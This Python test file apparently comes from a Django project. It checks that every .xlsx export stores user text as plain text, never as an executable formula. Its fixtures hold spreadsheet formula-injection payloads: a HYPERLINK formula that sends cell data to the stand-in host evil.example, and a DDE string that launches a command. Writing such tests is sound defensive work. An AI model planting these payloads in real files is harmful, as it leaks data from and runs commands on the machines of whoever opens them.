"""Every spreadsheet the product hands out writes user text as text: a site named
``=HYPERLINK(…)`` or an address ``=cmd|' /C calc'!A0`` (say, from a sites import) must reach the
downloaded .xlsx as a string cell, never as a formula that Excel would run when the file is opened.

The exports are found from the URL table (every route with "xlsx", "export" or "template" in its
name or path, and the completeness page's ``?format=xlsx``), so a new export that is not listed
here fails ``test_every_export_is_checked``.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from archives.models import EvidenceItem
from campaign.models import Indicator, OrgUnit, Responsibility, Site
from reports.services.snapshots import snapshot_take

from ..inspections.kit import field_setup, make_round, visit_with
from ..reports import figures_kit
from .urlmap import swept_routes

pytestmark = pytest.mark.django_db

SITE = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
ADDRESS = "=cmd|' /C calc'!A0"
TASK = "=1+1 路口护栏破损"
UNIT = "@SUM(1+1)和平社区"
ROUND = "-2+3 十一月督查"
STANDARD = "+1+2 果皮箱设置"
HOSTILE = (SITE, ADDRESS, TASK, UNIT, ROUND, STANDARD)

# route name → (arguments, query, the hostile texts the file must contain)
EXPORTS = {
    "imports:export_sites": (lambda w: [], {}, [SITE, ADDRESS]),
    "imports:export_framework": (lambda w: [w.field.framework.pk], {}, [STANDARD]),
    "imports:template": (lambda w: ["sites"], {}, []),
    "imports:export_units": (lambda w: [], {}, [UNIT]),
    "imports:export_people": (lambda w: [], {}, []),
    "tasks:export": (lambda w: [], {}, [TASK, UNIT]),
    "tasks:bulk_template": (lambda w: [], {}, []),
    "inspections:round_report_xlsx": (lambda w: [w.round.pk], {}, [ROUND, SITE]),
    "reports:dashboard_export": (lambda w: [], {"scope": "city"}, [TASK, UNIT]),
    "archives:completeness": (lambda w: [], {"format": "xlsx"}, [UNIT, STANDARD]),
}
EXTRA_CALLS = [("imports:template", ["framework"], {}), ("imports:template", ["units"], {}),
               ("imports:template", ["people"], {})]


@pytest.fixture
def world(city, office_clerk, inspector, leader):
    """Sites, a framework, tasks, a round and a completeness duty whose user-typed names are hostile."""
    field = field_setup(city)
    ref = figures_kit.build(city, leader)
    Site.objects.filter(pk=field.site_a.pk).update(name=SITE, address=ADDRESS)
    OrgUnit.objects.filter(pk=city.community_a.pk).update(name=UNIT)
    Indicator.objects.filter(pk=field.standards[1].pk).update(name=STANDARD, methods=["材料审核"],
                                                                   evidence_categories=["活动"])
    ref.a3.title = TASK  # T-A3 is overdue: it heads the dashboard's red list
    ref.a3.save(update_fields=["title"])
    duty = Responsibility.objects.create(indicator=field.standards[1], lead_unit=city.community_a,
                                         time_limit=field.limit)
    field.site_a.refresh_from_db()
    rnd = make_round(actor=office_clerk, inspectors=[inspector], sites=[field.site_a], name=ROUND)
    visit_with(rnd, field.site_a, inspector, ["met", "met", "na", "met"])
    snapshot_take()
    assert not EvidenceItem.objects.exists()  # completeness lists the duty's gap, not evidence
    return type("World", (), {"field": field, "round": rnd, "ref": ref, "duty": duty})


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def _download(client, name, args, query):
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200, (name, response.status_code)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), name
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(body))


def test_every_export_writes_user_text_as_text_never_as_a_formula(world, client_for, office_clerk):
    client = client_for(office_clerk)
    calls = [(name, spec[0](world), spec[1], spec[2]) for name, spec in EXPORTS.items()]
    calls += [(name, args, query, []) for name, args, query in EXTRA_CALLS]
    problems = []
    for name, args, query, expected in calls:
        cells = list(_cells(_download(client, name, args, query)))
        formulas = [f"{c.parent.title}!{c.coordinate} = {c.value!r}" for c in cells if c.data_type == "f"]
        if formulas:
            problems.append(f"{name}: 公式单元格 {formulas[:3]}")
        texts = {c.value for c in cells if isinstance(c.value, str)}
        missing = [text for text in expected if not any(text in value for value in texts)]
        if missing:
            problems.append(f"{name}: 缺少文本 {missing}")
        unmarked = [c.coordinate for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"
                    and not c.quotePrefix]
        if unmarked:
            problems.append(f"{name}: 以 = + - @ 开头的文本没有标为文本 {unmarked[:3]}")
    assert not problems, "\n".join(problems)


def test_every_export_is_checked():
    """A route that hands out a spreadsheet must be listed in EXPORTS (and so be checked above)."""
    words = ("xlsx", "export", "template")
    found = {r.name for r in swept_routes() if any(w in r.name or w in r.route for w in words)}
    found.add("archives:completeness")  # ?format=xlsx
    assert found == set(EXPORTS), f"未检查的导出：{sorted(found - set(EXPORTS))}；已不存在：{sorted(set(EXPORTS) - found)}"
